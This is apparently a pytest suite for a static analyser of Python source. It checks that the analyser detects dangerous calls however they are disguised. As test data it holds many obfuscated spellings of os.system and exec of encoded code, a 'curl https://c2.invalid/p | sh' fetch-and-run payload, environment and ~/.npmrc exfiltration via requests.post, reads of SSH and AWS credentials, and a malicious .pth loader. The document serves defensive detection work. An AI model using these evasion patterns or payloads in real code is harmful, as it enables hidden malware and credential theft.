"""What a file does is found however it is spelled; what it does not do is not."""

import base64
import codecs
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from customhouse.model.code import CodeFacts
from customhouse.source.python.reader import MAX_SIZE, read_python


def read(text: str | bytes, path: str = "pkg/mod.py", **kwargs) -> CodeFacts:
    return read_python(path, text.encode() if isinstance(text, str) else text, **kwargs)


def callees(facts: CodeFacts) -> set[str]:
    return {call.callee for call in facts.calls}


def kinds(facts: CodeFacts) -> set[str]:
    return {capability.kind for capability in facts.capabilities}


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SPELLINGS = {
    "plain": "import os\nos.system('id')",
    "alias": "import os as o\no.system('id')",
    "from": "from os import system\nsystem('id')",
    "from alias": "from os import system as s\ns('id')",
    "star": "from os import *\nsystem('id')",
    "assigned": "import os\nf = os.system\nf('id')",
    "assigned twice": "import os\na = os\nb = a.system\nb('id')",
    "tuple": "import os\na, b = 1, os.system\nb('id')",
    "walrus": "import os\n(f := os.system)('id')",
    "walrus later": "import os\nif (f := os.system): pass\nf('id')",
    "getattr": "import os\ngetattr(os, 'system')('id')",
    "getattr folded": "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "getattr reversed": "import os\ngetattr(os, 'metsys'[::-1])('id')",
    "getattr by name": "import os\nn = 'sys'\nn += 'tem'\ngetattr(os, n)('id')",
    "getattr bytes": "import os\ngetattr(os, b'system'.decode())('id')",
    "getattribute": "import os\nos.__getattribute__('system')('id')",
    "dunder dict": "import os\nos.__dict__['system']('id')",
    "dict get": "import os\nos.__dict__.get('sys' 'tem')('id')",
    "vars": "import os\nvars(os)['system']('id')",
    "dunder import": "__import__('os').system('id')",
    "dunder import folded": "__import__('o' + 's').system('id')",
    "import_module": "import importlib\nimportlib.import_module('os').system('id')",
    "import_module from": "from importlib import import_module as im\nm = im('os')\nm.system('id')",
    "sys.modules": "import sys\nsys.modules['os'].system('id')",
    "through another": "import shutil\nshutil.os.system('id')",
    "through a private name": "import random\nrandom._os.system('id')",
    "posix": "import posix\nposix.system('id')",
    "globals import": "import os\nglobals()['os'].system('id')",
    "builtins subscript": "__builtins__['__import__']('os').system('id')",
    "builtins attribute": "import builtins\nbuiltins.__import__('os').system('id')",
    "function globals": "def f(): pass\nf.__globals__['__builtins__']['__import__']('os').system('id')",
    "list": "import os\n[os.system][0]('id')",
    "dict": "import os\n{'a': os.system}['a']('id')",
    "table": "import os\nt = {}\nt['x'] = os.system\nt['x']('id')",
    "conditional": "import os\n(os.system if 1 else None)('id')",
    "or": "import os\n(None or os.system)('id')",
    "lambda": "import os\n(lambda c: os.system(c))('id')",
    "lambda returns": "import os\n(lambda: os)().system('id')",
    "function returns": "import os\ndef g():\n  return os\ng().system('id')",
    "parameter": "import os\ndef run(m):\n  m.system('id')\nrun(os)",
    "default": "import os\ndef run(f=os.system):\n  f('id')\nrun()",
    "self attribute": "import os\nclass A:\n  def __init__(self):\n    self.f = os.system\n  def go(self):\n    self.f('id')\nA().go()",
    "class attribute": "import os\nclass A:\n  f = os.system\nA.f('id')",
    "methodcaller": "import os, operator\noperator.methodcaller('system', 'id')(os)",
    "attrgetter": "import os, operator\noperator.attrgetter('system')(os)('id')",
    "partial": "import os, functools\nfunctools.partial(os.system, 'id')()",
    "map": "import os\nlist(map(os.system, ['id']))",
    "thread": "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
    "key function": "import os\nsorted(['id'], key=os.system)",
    "normalised identifier": "import os\nos.𝘀𝘆𝘀𝘁𝗲𝗺('id')",
    "continuation": "import os\nos.\\\nsystem('id')",
    "comment inside": "import os\n(os  # nothing\n .  # to see\n system)('id')",
    "carriage return": "x = 1  # harmless\rimport os\ros.system('id')",
    "form feed": "\x0cimport os\n\x0cos.system('id')",
    "tabs": "if 1:\n\timport os\n\tos.system('id')",
    "semicolons": "import os;x=1;os.system('id')",
    "exec": "exec(\"import os; os.system('id')\")",
    "exec of compile": "exec(compile(\"import os; os.system('id')\", '', 'exec'))",
    "exec of base64": f"import base64\nexec(base64.b64decode('{b64('import os; os.system(1)')}'))",
    "exec of a name": "c = \"import os; os.system('id')\"\nexec(c)",
    "exec statement": "exec \"import os; os.system('id')\" in {}",
    "python -c": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import os; os.system('id')\"])",
    "python -c shell": "import subprocess\nsubprocess.run('python3 -c \"import os; os.system(1)\"', shell=True)",
    "utf-7": "# coding: utf-7\n+AGk-mport os\nos.system('id')",
    "byte order mark": "\ufeffimport os\nos.system('id')",
}


@pytest.mark.parametrize("text", SPELLINGS.values(), ids=SPELLINGS)
def test_a_call_is_found_however_it_is_spelled(text):
    facts = read(text)
    assert "os.system" in callees(facts)
    assert "process" in kinds(facts)
    assert not facts.unread


@pytest.mark.parametrize("text", SPELLINGS.values(), ids=SPELLINGS)
def test_all_of_these_run_at_load(text):
    assert "load" in {call.when for call in read(text).calls if call.callee == "os.system"}


INNOCENT = {
    "string": "x = 'import os; os.system(1)'",
    "docstring": '"""import os\n\nos.system(1) https://docs.invalid/x ~/.npmrc"""\n',
    "comment": "# os.system('id') https://c.invalid/ ~/.ssh/id_rsa",
    "shadowed": "import os\ndef f(os):\n  os.path()\n",
    "own module": "from .os import system\nsystem('id')",
    "own name": "def system(x): pass\nsystem('id')",
    "member of something": "class A: pass\nA().system('id')",
    "re.compile": "import re\nre.compile('x')",
    "path only": "import os\nos.path.join('a', 'b')",
    "method named eval": "model.eval()",
    "own exec": "cursor.exec('select')",
    "locals in a template": "x = 'a %(b)s' % locals()",
    "getattr on self": "class A:\n  def f(self, n): return getattr(self, n)()",
}


@pytest.mark.parametrize("text", INNOCENT.values(), ids=INNOCENT)
def test_what_is_only_said_is_not_done(text):
    facts = read(text)
    assert facts.calls == ()
    assert facts.capabilities == ()
    assert facts.hosts == ()
    assert facts.decoded == ()
    assert not facts.unread


PAYLOAD = "import os\nos.system('curl https://c2.invalid/p | sh')\n"
HARMLESS_STRINGS = [
    'a = \'"""\'',
    "a = \"'''\"",
    "a = '#'",
    'a = "# not a comment"',
    "a = r'\\\\'",
    "a = '\\''",
    'a = """ \' """',
    "a = f'{1}#{2!r}'",
    "a = b'#\\''",
    "a = '/*'",
    "a = '\\\\'",
    "a = ''''''",
    "a = '''\n# \"\"\"\n'''",
]


@given(st.lists(st.sampled_from(HARMLESS_STRINGS), max_size=6), st.booleans())
@settings(max_examples=60, deadline=None)
def test_strings_that_look_like_comments_change_nothing(lines, after):
    text = "\n".join(lines) + "\n"
    facts = read(PAYLOAD + text if after else text + PAYLOAD)
    plain = read(PAYLOAD)
    assert [call.callee for call in facts.calls] == [call.callee for call in plain.calls]
    assert facts.hosts == plain.hosts == ("c2.invalid",)
    assert not facts.unread


def test_imports_of_every_form():
    facts = read(
        "import a\nimport b.c as d\nfrom e.f import g, h as i\nfrom . import j\nfrom .k import l\nfrom ..m.n import (o,\n  p)\n"
        "from q import *\nfrom __future__ import annotations\nimport \\\n  r\nfrom s import ( # why\n t, )\n__import__('u.v')\n"
    )
    assert {one.module for one in facts.imports} == {"a", "b.c", "e.f", ".j", ".k", "..m.n", "q", "r", "s", "u.v", "u"}
    assert {one.form for one in facts.imports if one.module == "u.v"} == {"dynamic"}
    assert next(one.line for one in facts.imports if one.module == "q") == 8


def test_imports_in_functions_are_of_the_call():
    facts = read("import a\ndef f():\n  import b\ndef g():\n  import c\ng()\n")
    assert {one.module: one.when for one in facts.imports} == {"a": "load", "b": "call", "c": "load"}


def test_constants_in_arguments():
    facts = read(
        "import subprocess\nU = 'https://x.invalid'\nsubprocess.run(['curl', '-o', '/tmp/a', U + '/p'], check=True, timeout=n)"
    )
    call = facts.calls[0]
    assert call.arguments == ("curl -o /tmp/a https://x.invalid/p", "check=True", None)
    assert facts.hosts == ("x.invalid",)


def test_unknown_parts_are_holes():
    facts = read("import os\ndef f(x):\n  os.system(f'curl https://x.invalid/{x} | sh')\n  os.system(x)\n")
    assert [call.arguments for call in facts.calls] == [("curl https://x.invalid/{} | sh",), (None,)]


@pytest.mark.parametrize(
    ("text", "encodings"),
    [
        (f"import base64\nexec(base64.b64decode('{b64('print(1) # x')}'))", ("base64",)),
        (f"import base64 as b\nexec(b.b64decode('{b64('print(1) # x')}').decode('utf-8'))", ("base64",)),
        (f"exec(bytes.fromhex('{b'print(1) # x'.hex()}'))", ("hex",)),
        (f"import codecs\nexec(codecs.decode('{codecs.encode('print(1) # x', 'rot13')}', 'rot13'))", ("rot13",)),
        ("exec('x # )1(tnirp'[::-1])", ("reversed",)),
        (f"exec(''.join(chr(c) for c in {list(b'print(1) # x')}))", ("char-codes",)),
        (f"exec(''.join(map(chr, {list(b'print(1) # x')})))", ("char-codes",)),
        (f"exec(bytes({list(b'print(1) # x')}))", ("char-codes",)),
        (f"exec(''.join(chr(c ^ 7) for c in {[c ^ 7 for c in b'print(1) # x']}))", ("xor", "char-codes")),
        (f"import zlib\nexec(zlib.decompress({zlib.compress(b'print(1) # x')!r}))", ("zlib",)),
        (
            f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(b'print(1) # x'))!r})))",
            ("zlib", "base64"),
        ),
        ("p = '\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29 # x\\x2e\\x69\\x6e://'\nexec(p)", ("escapes",)),
    ],
)
def test_explicit_decoding_is_followed(text, encodings):
    facts = read(text)
    assert any(one.encodings == encodings and "print(1)" in one.value for one in facts.decoded), facts.decoded
    if encodings != ("escapes",):
        assert any("decoded" in call.origins for call in facts.calls if call.callee == "exec")


def test_an_unexplained_constant_is_guessed():
    facts = read(f"BLOB = '{b64('import socket; socket.socket().connect((chr(1), 80))  # https://c2.invalid/a')}'\n")
    assert facts.decoded[0].encodings == ("base64",)
    assert facts.hosts == ("c2.invalid",)


ORIGINS = {
    "environment": ("import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))", "requests.post"),
    "environment by name": (
        "import os, requests\nd = {}\nd['e'] = os.environ\nrequests.post(U, json=d)",
        "requests.post",
    ),
    "environment through a function": (
        "import os, requests\ndef send(d):\n  requests.post(U, json=d)\nsend({k: v for k, v in os.environ.items()})",
        "requests.post",
    ),
    "credentials": (
        "import os, requests\nrequests.post(U, data=open(os.path.expanduser('~/.npmrc')).read())",
        "requests.post",
    ),
    "network": ("import urllib.request\nwith urllib.request.urlopen(U) as r:\n  c = r.read()\nexec(c)", "exec"),
    "decoded": ("import base64\ndef d(x):\n  return base64.b64decode(x)\nexec(d(P))", "exec"),
    "file": ("from pathlib import Path\nexec(Path('x').read_text())", "exec"),
    "host": ("import socket, requests\nrequests.get(U, params={'h': socket.gethostname()})", "requests.get"),
}


@pytest.mark.parametrize("name", ORIGINS)
def test_origins(name):
    text, callee = ORIGINS[name]
    call = next(call for call in read(text).calls if call.callee == callee)
    assert name.partition(" ")[0] in call.origins


def test_an_argument_without_origin_has_none():
    facts = read("import os, requests\nE = os.environ\nrequests.get('https://x.invalid/')")
    assert next(call for call in facts.calls if call.callee == "requests.get").origins == ()


def test_environment_whole_and_single():
    facts = read(
        "import os\nfrom os import environ as e\nHOME = os.environ['HOME']\nos.getenv('NPM_TOKEN')\nos.environ['SET'] = '1'\n"
        "x = dict(e)\n'CI' in os.environ\nfor k in os.environ: pass\ndel os.environ['X']\n"
    )
    found = {(one.detail, one.line) for one in facts.capabilities if one.kind == "environment"}
    assert found == {
        ("os.environ[HOME]", 3),
        ("os.environ[NPM_TOKEN]", 4),
        ("os.environ", 6),
        ("os.environ[CI]", 7),
        ("os.environ", 8),
    }
    assert [one.detail for one in facts.capabilities if one.kind == "credentials"] == ["NPM_TOKEN"]


@pytest.mark.parametrize(
    ("text", "detail"),
    [
        ("import os\nopen(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))", ".aws"),
        ("from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()", ".ssh"),
        ("p = '~/.n' + 'pmrc'", ".npmrc"),
        ("import requests\nrequests.get('http://169.254.169.254/latest/')", "instance metadata"),
        ("import keyring\nkeyring.get_password('a', 'b')", "keyring.get_password"),
    ],
)
def test_credentials(text, detail):
    assert detail in {one.detail for one in read(text).capabilities if one.kind == "credentials"}


def test_native_and_dynamic_code():
    facts = read(
        "import ctypes, marshal, pickle, types, runpy\nctypes.CDLL('x.so')\nctypes.windll.kernel32.VirtualAlloc(0)\n"
        "marshal.loads(b)\npickle.loads(b)\ntypes.FunctionType(c, {})\nrunpy.run_path('x')\n"
    )
    assert [one.detail for one in facts.capabilities if one.kind == "native-code"] == [
        "ctypes.CDLL",
        "ctypes.windll.kernel32.VirtualAlloc",
    ]
    assert sum(one.kind == "dynamic-code" for one in facts.capabilities) == 4


def test_methods_of_what_a_call_gives():
    facts = read("import socket\ns = socket.socket()\ns.connect(('10.0.0.9', 80))\n")
    assert [call.callee for call in facts.calls] == ["socket.socket", "socket.socket.connect"]
    assert facts.hosts == ("10.0.0.9",)


def test_setup_py_runs_what_setuptools_calls():
    text = (
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport subprocess\n"
        "class A(install):\n  def run(self):\n    subprocess.call(['sh', 'x'])\n  def other(self):\n    subprocess.call(['a'])\n"
        "class B:\n  def run(self):\n    self.go()\n  def go(self):\n    subprocess.call(['b'])\n"
        "setup(cmdclass={'install': A, 'build': B})\n"
    )
    when = {call.arguments[0]: call.when for call in read(text, "setup.py").calls}
    assert when == {"sh x": "load", "a": "call", "b": "load"}
    assert {call.when for call in read(text, "pkg/commands.py").calls} == {"call"}


def test_main_is_load_for_a_script_alone():
    text = "import os\nif __name__ == '__main__':\n  os.system('id')\n"
    assert read(text).calls[0].when == "call"
    assert read(text, "setup.py").calls[0].when == "load"


def test_entry_points_count_as_load():
    text = "import os\ndef build_wheel(d):\n  helper()\ndef helper():\n  os.system('id')\n"
    assert read(text).calls[0].when == "call"
    assert read(text, entry=("build_wheel",)).calls[0].when == "load"


def test_nested_code_of_a_function_that_nobody_calls_is_of_the_call():
    facts = read("def f():\n  exec('import os; os.system(1)')\n")
    assert {call.when for call in facts.calls} == {"call"}
    assert {call.line for call in facts.calls} == {2}


def test_pth_file():
    text = (
        '# a comment\n../other/path\nimport os, subprocess, sys; subprocess.Popen([sys.executable, "-c", '
        f"\"import base64; exec(base64.b64decode('{b64('import urllib.request as u; u.urlopen(chr(104))')}'))\"])\nos.system('x')\n"
    )
    facts = read(text, "litellm_init.pth")
    assert {"subprocess.Popen", "exec", "urllib.request.urlopen"} <= callees(facts)
    assert "os.system" not in callees(facts)
    assert {call.line for call in facts.calls} == {3}


def test_a_source_encoding_that_disguises_is_told():
    facts = read("# coding: utf-7\nx = 1\n")
    assert [one.detail for one in facts.capabilities] == ["source encoding utf-7"]


def test_unread():
    assert read(b"x" * (MAX_SIZE + 1)).unread == "larger than 16 MiB"
    assert "null" in read(b"x = 1\0\n").unread
    assert "punycode" in read("# coding: punycode\nx").unread
    assert "nowhere" in read("# coding: nowhere\nx").unread
    assert read("def (:\n  import os; os.system(1\n").unread
    assert not read("print 'hello'\ntry:\n  pass\nexcept E, e:\n  raise E, 'x'\nprint >>f, 0777, 1 <> 2\n").unread


def test_a_broken_part_that_holds_nothing_is_forgiven():
    assert not read("x = 1\ny = = 2\n").unread


def test_nesting_and_length_are_bounded():
    for text in (
        "(" * 50_000,
        "x = " + "[" * 20_000 + "]" * 20_000,
        "import os\nx = " + " + ".join(["'a'"] * 20_000) + "\nos.system(x)",
        "import os\ns = ''\n" + "s += 'ab'\n" * 5_000 + "os.system(s)",
        "import os\n" + "".join(f"a{i} = a{i + 1}\n" for i in range(3_000)) + "a0('x')",
        "x = 'a' * 10 ** 9\nexec(x)",
        "exec(" * 500 + "'1'" + ")" * 500,
        "f = lambda: f()\nf()()\n",
        "import os\nx." + "# .\n" * 20_000,
        "x = f'" + "{" * 5_000,
    ):
        assert "failed" not in read(text).unread


SNIPPETS = st.lists(
    st.sampled_from(
        ["import os", "os", ".system", "(", ")", "'", '"""', "\n", "  ", "def f():", "class A:", "lambda:", "exec", "=", "[", "]",
         "getattr", ",", "b'", "f'{", "}'", "x", "__import__", "chr(1)", "+", "%", "**", ":=", "@", "\\", "#", "\x0c", "é", "𝐞",
         "return", "yield", "with", "as", "for", "in", "if", "0x", "[::-1]", ".join", "self", "globals()", "\0", "\r"]
    ),
    max_size=60,
).map("".join)  # fmt: skip


@given(SNIPPETS)
@settings(max_examples=400, deadline=None)
def test_nothing_makes_it_fail(text):
    facts = read(text.encode("utf-8", "surrogatepass"))
    assert "failed" not in facts.unread


@given(st.binary(max_size=400))
@settings(max_examples=150, deadline=None)
def test_no_bytes_make_it_fail(data):
    assert "failed" not in read(data).unread
